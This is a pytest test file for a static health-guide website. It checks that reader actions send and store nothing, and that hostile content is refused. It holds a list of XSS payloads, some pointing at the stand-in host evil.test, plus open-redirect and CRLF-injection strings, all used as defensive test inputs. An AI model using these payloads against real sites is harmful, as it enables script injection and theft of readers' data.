"""Nobody learns what a reader reads: under the headers that servers send, everything a reader can do is done on every
page, and what the browser asked for, stored and complained of is looked at. And no hostile content reaches a page."""

import re
from urllib.parse import urlsplit

import pytest
from conftest import Site
from hosted import serve_hosted

# Runs before every page: notes what breaks the policy, what is sent on leaving, and what is printed.
WATCH = """
window.hgSeen = [];
document.addEventListener("securitypolicyviolation", event => window.hgSeen.push("policy: " + event.violatedDirective + " " + event.blockedURI));
for (const [owner, name] of [[Navigator.prototype, "sendBeacon"], [window, "WebSocket"], [window, "EventSource"], [window, "RTCPeerConnection"]])
  if (owner[name]) owner[name] = function () { window.hgSeen.push(name); };
window.print = () => { window.hgPrinted = (window.hgPrinted || 0) + 1; };
"""
STORED = """async () => [
  document.cookie && "cookie",
  localStorage.length && "localStorage: " + Object.keys(localStorage),
  sessionStorage.length && "sessionStorage: " + Object.keys(sessionStorage),
  (await caches.keys()).length && "caches",
  (await indexedDB.databases()).length && "indexedDB",
  (await navigator.serviceWorker.getRegistrations()).length && "worker",
  window.name && "window.name",
].filter(Boolean)"""
# The buttons that store something because they are asked to; they have tests of their own.
ASKED = "[data-keep], [data-remove], [data-planner-keep]"


@pytest.fixture(scope="module")
def hosted(built):
    server, url, asked = serve_hosted(built)
    site = Site(built, url)
    site.asked = asked
    yield site
    server.shutdown()


@pytest.fixture
def watched(browser, hosted):
    """A page whose every request and complaint is on record."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, permissions=["clipboard-read", "clipboard-write"])
    context.add_init_script(WATCH)
    page = context.new_page()
    page.set_default_timeout(5000)
    page.complaints, page.requests = [], []
    page.on("console", lambda message: message.type in ("error", "warning") and page.complaints.append(message.text))
    page.on("pageerror", lambda error: page.complaints.append(str(error)))
    context.on("request", lambda request: page.requests.append(request.url))
    yield page
    context.close()


def do_everything(page) -> None:
    """What a reader can do on one page without leaving it."""
    address = page.url
    page.evaluate("scrollTo(0, document.body.scrollHeight)")
    for summary in page.locator("summary:visible").all():
        summary.click()
    page.keyboard.press("Escape")
    for word in page.locator("a.hg-word:visible").all()[:3]:
        word.click()
        page.keyboard.press("Escape")
    for box in page.locator("article input[type=checkbox]:visible, article input[type=radio]:visible").all()[:12]:
        box.check(force=True)
    for field in page.locator("article input[type=text]:visible, article input[type=date]:visible, article input:not([type]):visible, article textarea:visible:not([readonly])").all()[:8]:
        field.fill("2026-11-24" if field.get_attribute("type") == "date" else "my liver hurts")
    for chooser in page.locator("article select:visible").all()[:3]:
        chooser.select_option(index=1)
    for button in page.locator(f"button:visible:not({ASKED})").all():
        if button.is_visible() and button.is_enabled():
            button.click()
    page.keyboard.press("Escape")
    assert page.url.split("#")[0] == address.split("#")[0], "a button changed the address"
    search = page.locator("#search-input")
    if search.is_visible():
        before = page.url
        search.fill("yellow eyes")
        page.locator("#search-results li").first.wait_for()
        page.keyboard.press("ArrowDown")
        page.keyboard.press("Escape")
        assert page.url == before, "the search words are in the address"


def looked_at(page, host: str) -> list[str]:
    """What nobody should see: requests to others, storage, cookies, complaints."""
    found = [f"asked {url}" for url in page.requests if urlsplit(url).netloc != host and not url.startswith(("data:", "blob:"))]
    found += [url for url in page.requests if "?" in url or "yellow" in url]
    found += page.evaluate("window.hgSeen")
    found += page.evaluate(STORED)
    found += [str(cookie) for cookie in page.context.cookies()]
    return found + page.complaints


def test_whatever_a_reader_does_on_any_page_nothing_is_sent_or_stored(hosted, watched):
    host, bad = urlsplit(hosted.url).netloc, {}
    for name in hosted.pages:
        watched.requests.clear(), watched.complaints.clear()
        watched.goto(hosted.url + name)
        do_everything(watched)
        if found := looked_at(watched, host):
            bad[name] = found
    watched.goto("about:blank")  # leaving sends nothing
    assert bad == {}
    assert not [row for row in hosted.asked if row[0] != "GET"]
    assert not [row for row in hosted.asked if "Referer" in row[2] and "/" in urlsplit(row[2]["Referer"]).path.strip("/")]


def test_a_page_that_is_not_there_keeps_the_same_promises(hosted, watched):
    answer = watched.goto(hosted.url + "no/such/page/?q=1")
    assert answer.status == 404 and "default-src 'none'" in answer.headers["content-security-policy"]
    watched.requests.clear()
    watched.complaints.clear()  # the browser reports the 404 itself
    do_everything(watched)
    assert looked_at(watched, urlsplit(hosted.url).netloc) == []


def test_a_code_in_the_address_is_not_kept_and_leads_only_where_the_table_says(hosted, watched):
    watched.goto(hosted.url + "go/?mainSearchCriteria.v.c=C78.7&mainSearchCriteria.v.cs=2.16.840.1.113883.6.90")
    watched.wait_for_url("**/sites/liver/**")
    assert watched.evaluate(STORED) == []
    for attack in ("//evil.test", "javascript:alert(1)", "<img src=x onerror=alert(1)>", "constructor", "%00", "C78.7%0d%0aSet-Cookie:a=b"):
        watched.goto(hosted.url + f"go/?mainSearchCriteria.v.c={attack}&mainSearchCriteria.v.cs=2.16.840.1.113883.6.90&to={attack}")
        watched.wait_for_timeout(150)
        assert watched.url.startswith(hosted.url)
        assert watched.evaluate("window.hgSeen") == [] and watched.evaluate(STORED) == []


def test_keeping_stores_only_on_the_click_and_removing_leaves_nothing(hosted, watched):
    watched.goto(hosted.url + "about/privacy/")
    assert watched.evaluate(STORED) == []
    watched.get_by_role("button", name="Keep this guide on this phone").click()
    watched.get_by_text("You can read it with no signal").wait_for(timeout=30_000)
    assert sorted(watched.evaluate(STORED)) == ["caches", "worker"]
    watched.get_by_role("button", name="Remove it").click()
    watched.get_by_text("Nothing of this guide is kept").wait_for()
    assert watched.evaluate(STORED) == [] and watched.complaints == [] and watched.evaluate("window.hgSeen") == []


def test_under_a_sub_path_pages_search_and_keeping_work(built_below, watched):
    server, url, _ = serve_hosted(built_below, "/clinic/guide/")
    watched.goto(url + "sites/liver/")
    watched.locator("#search-input").fill("yellow eyes")
    watched.locator("#search-results li").first.wait_for()
    watched.get_by_role("button", name="Keep this guide on this phone").click()
    watched.get_by_text("You can read it with no signal").wait_for(timeout=30_000)
    watched.get_by_role("button", name="Remove it").click()
    watched.get_by_text("Nothing of this guide is kept").wait_for()
    answer = watched.goto(url + "no/such/")
    assert answer.status == 404
    assert watched.locator("link[rel=stylesheet]").get_attribute("href").startswith("/clinic/guide/assets/")
    assert not [line for line in watched.complaints if "404" not in line]
    server.shutdown()


@pytest.fixture(scope="module")
def built_below(tmp_path_factory):
    from conftest import ROOT, mkdocs

    into = tmp_path_factory.mktemp("below") / "site"
    run = mkdocs(ROOT, into, "--strict", SITE_URL="https://guide.example/clinic/guide/")
    assert run.returncode == 0, run.stderr[-3000:]
    return into


# Hostile content ---------------------------------------------------------------------------------

IN_WORDS = [
    "<script>alert(1)</script>",
    "<script src='https://evil.test/x.js'></script>",
    "<img src=x alt=y onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](data:text/html,<b>hi</b>)",
    "[x](javascript:alert(1))",
    "<iframe src='https://evil.test/'></iframe>",
    "<object data='x'></object>",
    "<embed src='x'>",
    "<style>p{color:red}</style>",
    "<p style='color:red'>x</p>",
    "Text { style=color:red }",
    "**Text**{ onclick=alert(1) }",
    "<form action='https://evil.test/'><input name=a></form>",
    "<base href='https://evil.test/'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<video src='https://evil.test/x.mp4'></video>",
    "![x](https://evil.test/pixel.png)",
    "<img src='https://evil.test/pixel.png' alt='x'>",
]


def test_hostile_markdown_fails_the_build_and_every_piece_is_named(guide):
    """One page for each, in one run."""
    liver = (guide.dir / "docs/sites/liver.md").read_text()
    head = re.match(r"---\n.*?\n---\n", liver, re.S)[0]
    head = re.sub(r"^keywords:\n(?:  .*\n)+", "", head, flags=re.M)
    for number, text in enumerate(IN_WORDS):
        title = f"title: Hostile page {number} "
        guide.write(f"docs/sites/hostile-{number}.md", re.sub(r"^title:.*", title, head, flags=re.M) + f"\n{text}\n")
    code, said = guide.build()
    assert code != 0
    unnamed = [IN_WORDS[number] for number in range(len(IN_WORDS)) if not re.search(rf"sites/hostile-{number}[./](?!.*not in the nav)[^\n]*(?:belong|allow|attribute|fetched|live in)", said)]
    assert unnamed == []


def test_hostile_facts_are_text_not_markup(guide):
    for name, old in (("data/symptoms.yml", "says: Yellow skin or eyes"), ("data/words.yml", "means: ")):
        guide.edit(name, old, old + '<script>alert(1)</script><img src=x onerror=alert(1)>' if name.endswith("symptoms.yml") else old)
    code, said = guide.build("--no-strict")
    for path in guide.site.rglob("*.html"):
        html = path.read_text()
        assert "<script>alert" not in html and not re.search(r"<img[^>]*onerror", html), path
    for path in guide.site.rglob("*.json"):
        assert "<script" not in path.read_text() or path.name.startswith("search-index") or "api" in path.as_posix()


def test_hostile_addresses_in_facts_are_refused(guide):
    text = (guide.dir / "data/sources.yml").read_text()
    guide.write("data/sources.yml", re.sub(r"url: https?://\S+", "url: javascript:alert(1)", text, count=1))
    code, said = guide.build()
    assert code != 0 and "data/sources.yml" in said
    for path in guide.site.rglob("*.html"):
        assert "javascript:" not in path.read_text(), path
